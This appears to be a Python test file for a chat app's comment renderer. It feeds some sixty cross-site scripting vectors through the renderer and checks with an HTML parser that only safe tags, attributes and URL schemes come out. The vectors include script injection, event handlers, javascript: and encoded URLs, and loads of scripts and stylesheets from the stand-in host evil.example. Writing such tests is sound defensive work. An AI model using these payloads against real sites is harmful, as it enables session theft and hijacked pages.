"""Comments that attack whoever reads them. A parser judges the HTML by what it may hold, not by what it may not."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imagechat.model.comment_text import render

PLAIN: frozenset[str] = frozenset()
ALLOWED = dict.fromkeys(("p", "br", "strong", "em", "code", "pre"), PLAIN) | {"a": {"href", "rel", "target"}}
SCHEMES = {"http", "https", "mailto", ""}

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<p style=position:fixed;inset:0>covered</p>",
    "<p id=app name=body class=x>clobbered</p>",
    "</p></div><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    '[x](https://example.org/" onmouseover="alert(1))',
    '[x](<https://example.org/" onmouseover="alert(1)>)',
    '[x](https://example.org "onclick=alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "`<script>alert(1)</script>`",
    "``` <script>\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "**<script>alert(1)</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a href='https://example.org' target=_self rel=opener>x</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


class Findings(HTMLParser):
    """Everything in some HTML that is more than the small Markdown gives."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.found.append(f"{tag}[{name}]")
            if name == "href" and urlsplit((value or "").strip("\x00\x01 \t\n")).scheme.lower() not in SCHEMES:
                self.found.append(f"href={value}")
        given = dict(attrs)
        if tag == "a" and (given.get("rel") != "noopener nofollow ugc" or given.get("target") != "_blank"):
            self.found.append("a link that keeps its opener")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def test_the_judge_sees_what_is_wrong() -> None:
    for html in ("<script>", "<p onclick=x>", "<a href=javascript:x>", "<!-- -->", "<?x>", '<a href="https://a">'):
        assert Findings(html).found, html


@pytest.mark.parametrize("typed", VECTORS, ids=ascii)
def test_an_attack_becomes_harmless_text(typed: str) -> None:
    assert Findings(render(typed)).found == []


@pytest.mark.parametrize("typed", VECTORS, ids=ascii)
def test_an_attack_within_other_markdown_is_harmless_too(typed: str) -> None:
    for around in ("*{}*", "[{}](https://example.org)", "`{}", "> {}", "<p>{}</p>", "[x]({})", "&{};"):
        assert Findings(render(around.replace("{}", typed))).found == [], around


@given(
    st.lists(st.sampled_from([*VECTORS, "*", "`", "[", "](", ")", "<", ">", "&", "\n", "\\", '"', "'"])).map("".join)
)
def test_attacks_put_together_are_harmless(typed: str) -> None:
    assert Findings(render(typed[:2000])).found == []
